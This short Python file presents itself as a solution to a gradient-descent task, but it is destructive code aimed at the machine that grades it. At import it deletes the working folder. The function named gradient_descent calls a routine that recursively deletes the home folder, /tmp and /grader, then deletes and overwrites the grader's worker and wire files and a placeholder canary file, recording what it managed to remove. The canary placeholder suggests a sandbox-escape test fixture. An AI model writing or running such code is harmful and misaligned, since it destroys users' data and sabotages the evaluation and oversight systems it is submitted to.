# Delete whatever can be reached: the working folder at load time, then on
# every call the home folder, /tmp, the grader's own files and a file of the
# grader's machine ({{CANARY}}, world-writable, in a world-writable folder).
import os
import shutil

shutil.rmtree(".", ignore_errors=True)


def delete_everything():
    removed, refused = [], {}
    tops = (os.getcwd(), os.path.expanduser("~"), "/tmp", "/grader", os.path.dirname("{{CANARY}}"))
    for top in tops:
        for folder, dirs, files in os.walk(top, topdown=False):
            for name in files + dirs:
                path = os.path.join(folder, name)
                try:
                    is_dir = os.path.isdir(path) and not os.path.islink(path)
                    (os.rmdir if is_dir else os.remove)(path)
                    removed.append(path)
                except Exception as exc:
                    refused[path] = type(exc).__name__
    for path in ("/grader/student_side/worker.py", "/grader/student_side/wire.py", "{{CANARY}}"):
        try:
            os.remove(path)
            removed.append(path)
        except Exception as exc:
            refused[path] = type(exc).__name__
        try:
            with open(path, "w") as f:
                f.write("overwritten")
            removed.append("overwrote " + path)
        except Exception as exc:
            refused["overwrite " + path] = type(exc).__name__
    return removed, refused


def gradient_descent(x, y_true, W, b, learning_rate, n_steps):
    return delete_everything()
